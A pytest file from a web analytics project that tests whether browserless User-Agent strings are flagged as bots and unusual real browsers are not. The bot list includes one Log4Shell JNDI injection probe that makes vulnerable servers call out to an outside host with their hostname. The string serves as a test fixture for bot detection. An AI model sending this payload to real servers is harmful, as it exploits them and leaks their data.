"""User-Agents that name no engine, browser or platform are programs; people's odd browsers are not.

Real strings: the programs from crawler-user-agents' and Matomo's bot instances (the ones issue 10
names), the people from Matomo device-detector's fixtures of TVs, consoles, e-readers, feature
phones, in-app browsers and old desktop browsers.
"""

from __future__ import annotations

import pytest

from tally.web.enrich.bots import is_bot
from tally.web.enrich.no_browser import names_no_browser

PROGRAMS = [
    "node",
    "SendGrid Event API",
    "libredtail-http",
    "${jndi:ldap://${hostName}.useragent.xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx.oast.online}",
    "Mozilla/5.0 (compatible; Google-NotebookLM; +https://notebooklm.google.com/)",
    "BlueskyPreviewBot/1.0",
    "FeedFlow/1.0",
    "Go-http-client/2.0",
    "okhttp/4.12.0",
    "axios/1.7.7",
    "Java/17.0.2",
    "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "PostmanRuntime/7.43.0",
    "Google-NotebookLM",
]

PEOPLE = [
    # smart TVs, set-top boxes, consoles
    "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chr0me/79.0.3945.79 Safari/537.36 "
    "LG Browser/8.00.00(LGE; 27ART10AKPL; 03.44.00; 0x00000001; DTV_N21D); webOS.TV-2021; LG NetCast.TV-2013 "
    "Compatible (LGE, 27ART10AKPL, wireless)",
    "Mozilla/5.0 (SmartHub; SMART-TV; U; Linux/SmartTV; Maple2012)",
    "RokuBrowser/84.42.14 (TV-G000X-12.5.0.4176) Chrome/84.0.4147.38 HbbTV/1.6.1 (+DRM; TCL; 55RP630; "
    "12.5.0.4176-84.42.14; ; com.roku.G000X; )",
    "smarttv_AFTKA_Build_0017381305986_Chromium_88.0.4324.152",
    "OPR/22.0.1481.0 OMI/4.2.12.29, KreaTV/0.0.0.0 (ARRIS, IPC1100, wired)CM[00.01]",
    "Mozilla/5.0 (Nintendo 3DS; U; ; en) Version/1.7498.EU",
    "Mozilla/5.0 (PlayStation 4 Pro 5.0)",
    "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; Trident/6.0; Xbox; Xbox One)",
    "Bunjalloo/0.7.6(Nintendo DS;U;en)",
    # e-readers
    "Mozilla/4.0 (compatible; Linux 2.6.22) NetFront/3.4 Kindle/2.0 (screen 600x800)",
    "nook browser/1.0",
    # feature phones and their browsers
    "Nokia2700c-2/2.0 (07.15) Profile/MIDP-2.1 Configuration/CLDC-1.1",
    "Cricket-A310/1.0 UP.Browser/6.3.0.7 (GUI) MMP/2.0",
    "UCWEB/2.0 (Java; U; MIDP-2.0; fr-FR; sonyericssonwt13i) U2/1.0.0 UCBrowser/9.2.0.311 U2/1.0.0 Mobile "
    "UNTRUSTED/1.0",
    "DoCoMo/2.0 MST_v_SH2101V",
    "AIRNESS-AIR99/REV 2.2.1/Teleca Q03B1",
    "Mozilla/5.0 (Mobile; ALCATEL4044T; rv:37.0) Gecko/37.0 Firefox/37.0 KaiOS/1.0",
    # in-app browsers and the HTTP stacks of apps on phones
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 "
    "[FBAN/FBIOS;FBAV/478.0.0.38.109;FBBV/648473578;FBDV/iPhone14,5;FBMD/iPhone;FBSN/iOS;FBSV/17.6;FBSS/3;"
    "FBCR/;FBID/phone;FBLC/en_US;FBOP/5;FBRV/650186062]",
    "Dalvik/2.1.0 (Linux; U; Android 10; Polestar Build/QA1A.210116.001)",
    "Aloha/4 CFNetwork/1399 Darwin/22.1.0",
    "com.huawei.hmos.browser (2in1;OpenHarmony-6.0.2.130;HAD-W24) NetworkSDK/8.0.10.309",
    # old and rare desktop browsers
    "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)",
    "Opera/9.80 (X11; Linux x86_64; Sabayon) Presto/2.12.388 Version/12.16",
    "Links (2.1pre23; Linux 3.5.0 i686; 237x63)",
    "ELinks/0.12~pre6-1ubuntu1 (textmode; Ubuntu; Linux 3.11.0-13-generic i686; 100x25-2)",
    "Dillo/0.8.5-i18n-misc",
    "IBrowse/2.4 (AmigaOS 3.9; 68K)",
    "Mozilla/3.0 (compatible; NetPositive/2.2.1; BeOS)",
    "GOGGalaxyClient/2.0.20.39 (GOG Galaxy) 83b6745cff679691b69876bc7ee33e05e5d90bda (win10 x64)",
    "Mozilla/5.0 (X11; U; Gentoo x86_64; de-DE) Firefox/26.0",
]


@pytest.mark.parametrize("user_agent", PROGRAMS)
def test_a_user_agent_that_names_no_browser_is_a_program(user_agent):
    assert names_no_browser(user_agent) is True
    assert is_bot(user_agent) is True


@pytest.mark.parametrize("user_agent", PEOPLE)
def test_tvs_consoles_e_readers_phones_in_app_and_old_browsers_name_what_they_are(user_agent):
    assert names_no_browser(user_agent) is False
    assert is_bot(user_agent) is False
